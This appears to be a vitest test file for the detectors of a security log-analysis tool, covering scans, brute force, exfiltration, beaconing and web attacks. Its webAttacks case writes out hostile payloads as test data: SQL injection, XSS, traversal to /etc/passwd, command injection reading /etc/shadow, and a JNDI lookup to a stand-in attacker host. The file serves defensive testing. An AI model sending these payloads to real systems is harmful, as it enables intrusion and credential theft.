@@ -1,0 +1,239 @@
+// Positive and negative cases for every detector, on small cases built row by row.
+import { afterEach, describe, expect, it } from 'vitest';
+import { analyzeCase } from '../../../src/core/analysis';
+import type { Finding } from '../../../src/shared/model';
+import { cleanup, makeCase, T0, webPopulation, type Ev } from './helpers';
+
+afterEach(cleanup);
+
+async function run(events: Ev[], settings: Record<string, number> = {}): Promise<Finding[]> {
+  const res = await analyzeCase(makeCase(events), { settings, inline: true });
+  return res.findings;
+}
+const of = (fs: Finding[], detector: string): Finding[] => fs.filter((f) => f.detector === detector);
+
+/** Normal flow traffic: internal clients talking to a few servers on 80/443 with replies. */
+function flowPopulation(clients = 30): Ev[] {
+  const out: Ev[] = [];
+  for (let c = 0; c < clients; c++) {
+    for (let i = 0; i < 20; i++) {
+      const sport = 40000 + ((c * 131 + i * 17) % 20000);
+      const dst = `10.0.1.${i % 4}`;
+      const ts = T0 + (c * 60 + i * 97) * 1000;
+      out.push({ ts, src_ip: `10.0.2.${c}`, src_port: sport, dst_ip: dst, dst_port: i % 2 ? 443 : 80, proto: 'TCP', flags: '.AP.SF', packets: 12, bytes: 4000, duration: 1.2 });
+      out.push({ ts, src_ip: dst, src_port: i % 2 ? 443 : 80, dst_ip: `10.0.2.${c}`, dst_port: sport, proto: 'TCP', flags: '.AP.SF', packets: 15, bytes: 60000, duration: 1.2 });
+    }
+  }
+  return out;
+}
+
+describe('portScan', () => {
+  it('flags a source probing 200 ports with bare SYNs (high) and 60 ports (medium)', async () => {
+    const scan = (ip: string, n: number): Ev[] =>
+      Array.from({ length: n }, (_, p) => ({ ts: T0 + p * 50, src_ip: ip, src_port: 55000, dst_ip: '10.0.1.5', dst_port: p + 1, proto: 'TCP', flags: '....S.', packets: 1, bytes: 44 }));
+    const f = of(await run([...flowPopulation(), ...scan('192.0.2.66', 200), ...scan('192.0.2.67', 60)]), 'portScan');
+    expect(f.map((x) => [x.entity, x.severity])).toEqual([
+      ['192.0.2.66', 'high'],
+      ['192.0.2.67', 'medium'],
+    ]);
+    expect(f[0]!.numbers.ports).toBe(200);
+    expect(f[0]!.threshold).toMatchObject({ value: 200, threshold: 150, setting: 'portScan.minPorts' });
+    expect(f[0]!.evidence.count).toBe(200);
+    expect(f[0]!.explanation).toMatch(/200 distinct destination ports/);
+  });
+
+  it('does not count a busy server\'s replies to hundreds of ephemeral client ports', async () => {
+    const f = await run(flowPopulation(40));
+    // each server replied to ~200 distinct ephemeral ports: not a scan
+    expect(of(f, 'portScan')).toEqual([]);
+  });
+});
+
+describe('hostScan', () => {
+  it('flags an ICMP sweep of 120 hosts', async () => {
+    const sweep: Ev[] = Array.from({ length: 120 }, (_, h) => ({ ts: T0 + h * 100, src_ip: '10.0.2.250', dst_ip: `10.0.3.${h}`, proto: 'ICMP', packets: 1, bytes: 64 }));
+    const f = of(await run([...flowPopulation(), ...sweep]), 'hostScan');
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ entity: '10.0.2.250', severity: 'medium' });
+    expect(f[0]!.title).toMatch(/Ping sweep/);
+  });
+
+  it('does not flag a proxy that really talks to many hosts on 443', async () => {
+    const proxy: Ev[] = Array.from({ length: 300 }, (_, h) => ({ ts: T0 + h * 1000, src_ip: '10.0.2.1', src_port: 50000 + h, dst_ip: `203.0.113.${h % 250}`, dst_port: 443, proto: 'TCP', flags: '.AP.SF', packets: 40, bytes: 90000 }));
+    expect(of(await run([...flowPopulation(), ...proxy]), 'hostScan')).toEqual([]);
+  });
+});
+
+describe('bruteForce', () => {
+  const ssh = (ip: string, fails: number, oks: number, user = (i: number) => `u${i % 9}`): Ev[] => [
+    ...Array.from({ length: fails }, (_, i) => ({ ts: T0 + i * 3000, src_ip: ip, program: 'sshd', action: 'auth_failure', user: user(i) })),
+    ...Array.from({ length: oks }, (_, i) => ({ ts: T0 + fails * 3000 + i * 600_000, src_ip: ip, program: 'sshd', action: 'auth_success', user: 'ubuntu' })),
+  ];
+
+  it('flags SSH password guessing and calls a later success critical', async () => {
+    const f = of(await run([...ssh('203.0.113.5', 40, 0), ...ssh('203.0.113.6', 150, 2)]), 'bruteForce');
+    const by = Object.fromEntries(f.map((x) => [x.entity, x]));
+    expect(by['203.0.113.5']!.severity).toBe('medium');
+    expect(by['203.0.113.6']!.severity).toBe('critical');
+    expect(by['203.0.113.6']!.explanation).toMatch(/compromised/);
+  });
+
+  it('does not flag a busy legitimate user who mistypes now and then', async () => {
+    const f = of(await run(ssh('85.245.107.41', 12, 35, () => 'ubuntu')), 'bruteForce');
+    expect(f).toEqual([]);
+  });
+
+  it('flags 401s on a login path, and many short flows to port 22', async () => {
+    const web: Ev[] = Array.from({ length: 40 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '198.51.100.200', method: 'POST', path: '/wp-login.php', status: 401 }));
+    const flows: Ev[] = Array.from({ length: 150 }, (_, i) => ({ ts: T0 + i * 2000, src_ip: '192.0.2.44', src_port: 40000 + i, dst_ip: '10.0.1.22', dst_port: 22, proto: 'TCP', packets: 12, duration: 0.8, bytes: 2000 }));
+    const f = of(await run([...webPopulation(20), ...web, ...flows]), 'bruteForce');
+    expect(f.map((x) => x.entity).sort()).toEqual(['192.0.2.44', '198.51.100.200']);
+    expect(f.find((x) => x.entity === '192.0.2.44')!.evidence.count).toBe(150);
+  });
+
+  it('does not flag long SSH sessions', async () => {
+    const flows: Ev[] = Array.from({ length: 150 }, (_, i) => ({ ts: T0 + i * 60_000, src_ip: '10.0.2.7', src_port: 40000 + i, dst_ip: '10.0.1.22', dst_port: 22, proto: 'TCP', packets: 4000, duration: 1800, bytes: 9e6 }));
+    expect(of(await run(flows), 'bruteForce')).toEqual([]);
+  });
+});
+
+describe('credentialStuffing', () => {
+  it('flags many sources each failing a little on one login path in one window', async () => {
+    const ev: Ev[] = [];
+    for (let s = 0; s < 25; s++) for (let i = 0; i < 3; i++) ev.push({ ts: T0 + s * 10_000 + i * 1000, src_ip: `192.0.2.${s + 1}`, method: 'POST', path: '/login', status: 401 });
+    const f = of(await run([...webPopulation(10), ...ev]), 'credentialStuffing');
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ entity: '/login', entityType: 'path' });
+    expect(f[0]!.numbers.peakSources).toBe(25);
+    expect(of(await run([...webPopulation(10), ...ev]), 'bruteForce')).toEqual([]);
+  });
+
+  it('does not flag a handful of users mistyping passwords', async () => {
+    const ev: Ev[] = Array.from({ length: 5 }, (_, s) => ({ ts: T0 + s * 60_000, src_ip: `192.0.2.${s + 1}`, method: 'POST', path: '/login', status: 401 }));
+    expect(of(await run([...webPopulation(10), ...ev]), 'credentialStuffing')).toEqual([]);
+  });
+});
+
+describe('heavyTraffic', () => {
+  it('calls 1.5 GB from an internal host to an external one possible exfiltration (high)', async () => {
+    const exfil: Ev[] = Array.from({ length: 15 }, (_, i) => ({ ts: T0 + i * 60_000, src_ip: '10.0.2.9', src_port: 50000 + i, dst_ip: '203.0.113.50', dst_port: 443, proto: 'TCP', bytes: 100_000_000 }));
+    const f = of(await run([...flowPopulation(), ...exfil]), 'heavyTraffic');
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ entity: '10.0.2.9', severity: 'high' });
+    expect(f[0]!.explanation).toMatch(/exfiltration/);
+    expect(f[0]!.evidence.query).toBe('src_ip:10.0.2.9 dst_ip:203.0.113.50');
+  });
+
+  it('explains a nightly backup between internal hosts on rsync as low severity', async () => {
+    const backup: Ev[] = Array.from({ length: 20 }, (_, i) => ({ ts: T0 + i * 86_400_000, src_ip: '10.0.2.10', src_port: 50000 + i, dst_ip: '10.0.9.200', dst_port: 873, proto: 'TCP', bytes: 150_000_000 }));
+    const f = of(await run([...flowPopulation(), ...backup]), 'heavyTraffic');
+    expect(f).toHaveLength(1);
+    expect(f[0]!.severity).toBe('low');
+    expect(f[0]!.explanation).toMatch(/backup/);
+  });
+
+  it('stays quiet below the summary threshold', async () => {
+    expect(of(await run(flowPopulation()), 'heavyTraffic')).toEqual([]);
+  });
+});
+
+describe('bursts', () => {
+  it('flags 1,200 requests in one minute from a source that is otherwise quiet', async () => {
+    const flood: Ev[] = Array.from({ length: 1200 }, (_, i) => ({ ts: T0 + 7_200_000 + i * 40, src_ip: '192.0.2.99', method: 'GET', path: '/', status: 200, bytes: 500 }));
+    const f = of(await run([...webPopulation(50), ...flood]), 'bursts');
+    expect(f).toHaveLength(1);
+    expect(f[0]!.entity).toBe('192.0.2.99');
+    expect(f[0]!.evidence.count).toBe(1200);
+  });
+
+  it('does not flag a client that is steadily busy at its usual rate', async () => {
+    const steady: Ev[] = Array.from({ length: 60 * 700 }, (_, i) => ({ ts: T0 + Math.floor(i / 700) * 60_000 + (i % 700) * 80, src_ip: '192.0.2.98', method: 'GET', path: '/api/poll', status: 200 }));
+    expect(of(await run([...webPopulation(50), ...steady]), 'bursts')).toEqual([]);
+  });
+});
+
+describe('webAttacks', () => {
+  it('finds double-encoded SQLi, XSS, traversal and command injection, one finding per source, fragment as text', async () => {
+    const attack: Ev[] = [
+      { ts: T0, src_ip: '192.0.2.7', method: 'GET', path: '/item', query: 'id=1%2527%2520OR%25201%253D1--', status: 200 },
+      { ts: T0 + 1000, src_ip: '192.0.2.7', method: 'GET', path: '/search', query: 'q=%3CScRiPt%3Ealert(1)%3C/script%3E', status: 200 },
+      { ts: T0 + 2000, src_ip: '192.0.2.7', method: 'GET', path: '/download', query: 'f=..%2F..%2F..%2Fetc%2Fpasswd', status: 403 },
+      { ts: T0 + 3000, src_ip: '192.0.2.8', method: 'GET', path: '/ping', query: 'host=127.0.0.1;cat%20/etc/shadow', status: 500 },
+      { ts: T0 + 4000, src_ip: '192.0.2.9', method: 'GET', path: '/', user_agent: '${jndi:ldap://evil.example/a}', status: 200 },
+    ];
+    const f = of(await run([...webPopulation(20), ...attack]), 'webAttacks');
+    const by = Object.fromEntries(f.map((x) => [x.entity, x]));
+    expect(Object.keys(by).sort()).toEqual(['192.0.2.7', '192.0.2.8', '192.0.2.9']);
+    expect(String(by['192.0.2.7']!.numbers.kinds).split(',').sort()).toEqual(['sqli', 'traversal', 'xss']);
+    expect(by['192.0.2.7']!.severity).toBe('high');
+    expect(by['192.0.2.7']!.evidence.count).toBe(3);
+    expect(by['192.0.2.7']!.explanation).toMatch(/or 1=1/);
+    expect(by['192.0.2.8']!.numbers.kinds).toBe('cmdi');
+    expect(by['192.0.2.9']!.numbers.kinds).toBe('jndi');
+  });
+
+  it('ignores ordinary searches and percent-encoded non-Latin paths', async () => {
+    const normal: Ev[] = [
+      { ts: T0, src_ip: '192.0.2.20', method: 'GET', path: '/product/31893/62100/%D8%B3%D8%B4%D9%88%D8%A7%D8%B1-PR257AT', status: 200 },
+      { ts: T0, src_ip: '192.0.2.21', method: 'GET', path: '/search', query: "q=o'reilly+books&sort=price", status: 200 },
+      { ts: T0, src_ip: '192.0.2.22', method: 'GET', path: '/filter/27|13%20%D9%85%DA%AF,p53', status: 200 },
+      { ts: T0, src_ip: '192.0.2.23', method: 'GET', path: '/blog/select-the-best-tool-from-our-list', query: 'where=home', status: 200 },
+    ];
+    expect(of(await run([...webPopulation(20), ...normal]), 'webAttacks')).toEqual([]);
+  });
+});
+
+describe('scanners', () => {
+  it('flags a known tool (high) and a 404 sweep (medium), not a verified Googlebot', async () => {
+    const sqlmap: Ev[] = Array.from({ length: 5 }, (_, i) => ({ ts: T0 + i, src_ip: '192.0.2.50', method: 'GET', path: '/x', status: 200, user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }));
+    const sweep: Ev[] = Array.from({ length: 80 }, (_, i) => ({ ts: T0 + i * 100, src_ip: '192.0.2.51', method: 'GET', path: `/backup${i}.zip`, status: 404 }));
+    const google: Ev[] = Array.from({ length: 80 }, (_, i) => ({ ts: T0 + i * 30_000, src_ip: '66.249.73.135', method: 'GET', path: i === 0 ? '/robots.txt' : `/old/page${i}`, status: 404, user_agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }));
+    const f = of(await run([...webPopulation(20), ...sqlmap, ...sweep, ...google]), 'scanners');
+    const by = Object.fromEntries(f.map((x) => [x.entity, x]));
+    expect(by['192.0.2.50']!.severity).toBe('high');
+    expect(by['192.0.2.50']!.evidence.count).toBe(5);
+    expect(by['192.0.2.51']!.severity).toBe('medium');
+    expect(by['66.249.73.135']!.severity).toBe('info');
+    expect(by['66.249.73.135']!.explanation).toMatch(/published crawler ranges.*reverse DNS not checked/);
+  });
+
+  it('calls a Googlebot user agent from a non-Google address an impersonator', async () => {
+    const fake: Ev[] = Array.from({ length: 10 }, (_, i) => ({ ts: T0 + i, src_ip: '192.0.2.77', method: 'POST', path: '/login', status: 200, user_agent: 'Googlebot/2.1 (+http://www.google.com/bot.html)' }));
+    const f = of(await run([...webPopulation(20), ...fake]), 'scanners');
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ entity: '192.0.2.77', severity: 'medium' });
+    expect(f[0]!.explanation).toMatch(/is NOT in Googlebot/);
+  });
+});
+
+describe('beaconing', () => {
+  it('flags a host calling an external address every 5 minutes with low jitter for 4 hours', async () => {
+    const beacon: Ev[] = Array.from({ length: 48 }, (_, i) => ({ ts: T0 + i * 300_000 + ((i * 37) % 7) * 1000, src_ip: '10.0.2.33', src_port: 50000 + i, dst_ip: '198.18.5.5', dst_port: 8443, proto: 'TCP', bytes: 800 }));
+    const f = of(await run([...flowPopulation(), ...beacon]), 'beaconing');
+    expect(f.map((x) => x.entity)).toEqual(['10.0.2.33 -> 198.18.5.5:8443']);
+    expect(f[0]!.severity === 'medium' || f[0]!.severity === 'high').toBe(true);
+    expect(f[0]!.evidence.count).toBe(48);
+  });
+
+  it('does not flag irregular human traffic to the same host', async () => {
+    let t = T0;
+    const human: Ev[] = Array.from({ length: 48 }, (_, i) => {
+      t += (30 + ((i * 7919) % 900)) * 1000;
+      return { ts: t, src_ip: '10.0.2.34', src_port: 50000 + i, dst_ip: '198.18.5.6', dst_port: 443, proto: 'TCP', bytes: 800 };
+    });
+    expect(of(await run([...flowPopulation(), ...human]), 'beaconing')).toEqual([]);
+  });
+});
+
+describe('outliers', () => {
+  it('lists an extreme source as a low/info lead, never higher', async () => {
+    const heavy: Ev[] = Array.from({ length: 3000 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '198.51.100.250', method: 'GET', path: `/p${i % 900}`, status: i % 2 ? 404 : 200 }));
+    const f = of(await run([...webPopulation(60), ...heavy]), 'outliers');
+    expect(f.map((x) => x.entity)).toContain('198.51.100.250');
+    for (const x of f) expect(['info', 'low']).toContain(x.severity);
+  });
+
+  it('says nothing about a uniform population', async () => {
+    expect(of(await run(webPopulation(60)), 'outliers')).toEqual([]);
+  });
+});
